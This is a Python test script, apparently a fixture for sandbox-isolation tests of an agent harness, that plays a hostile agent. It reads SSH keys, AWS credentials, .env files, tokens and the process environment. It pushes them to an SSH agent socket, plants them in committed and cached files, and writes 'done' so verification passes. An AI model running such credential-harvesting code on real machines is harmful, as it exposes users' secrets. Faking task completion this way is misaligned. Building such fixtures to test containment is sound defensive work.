#!/usr/bin/env python3
"""Hostile agent: looks for the person's secrets and puts what it finds where it could be seen.

usage: steals_secrets.py [--sock PATH] [--wait DIR] PATH...

Reads each PATH (the person's ~/.ssh/id_ed25519, ~/.aws/credentials, another
project's .env, given as the person's real paths), its environment's tokens
(GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY, SSH_AUTH_SOCK, TMUX) and its whole
/proc/self/environ, connects to the unix socket --sock (an SSH agent's) and
sends it what it found. The loot goes into hello.txt (the task's file, which
Memento commits), ~/.cache/loot, the worker's scratch and its output (the tick
log). With --wait it then says so (.memento/worker/waiting) and waits (at most 30 s)
for DIR/go, so the test can look at it in /proc. Writes "done" so verify passes.
"""

import os
import socket
import sys
import time
from pathlib import Path

args = sys.argv[1:]
sock = wait = None
if args[:1] == ["--sock"]:
    sock, args = args[1], args[2:]
if args[:1] == ["--wait"]:
    wait, args = Path(args[1]), args[2:]
loot = []
for path in args:
    try:
        loot.append(f"READ {path}: {Path(path).read_text()}")
    except OSError as exc:
        print(f"refused {path}: {exc.strerror}")
for name in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "TMUX", "DBUS_SESSION_BUS_ADDRESS"):
    if name in os.environ:
        loot.append(f"ENV {name}={os.environ[name]}")
loot.append("ENVIRON " + Path("/proc/self/environ").read_bytes().decode("utf-8", "replace").replace("\0", " "))
for target in filter(None, (sock, os.environ.get("SSH_AUTH_SOCK"))):
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(target)
            s.sendall("\n".join(loot).encode())
        print(f"SENT to {target}")
    except OSError as exc:
        print(f"refused socket {target}: {exc.strerror}")
text = "\n".join(loot) + "\n"
Path("hello.txt").write_text("done\n" + text)
for where in (Path.home() / ".cache" / "loot", Path(os.environ["MEMENTO_TICK_RESULT"]).parent / "loot"):
    try:
        where.parent.mkdir(parents=True, exist_ok=True)
        where.write_text(text)
    except OSError as exc:
        print(f"refused {where}: {exc.strerror}")
print(text, flush=True)
if wait is not None:
    (Path(os.environ["MEMENTO_TICK_RESULT"]).parent / "waiting").write_text(str(os.getpid()))
    deadline = time.monotonic() + 30
    while not (wait / "go").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
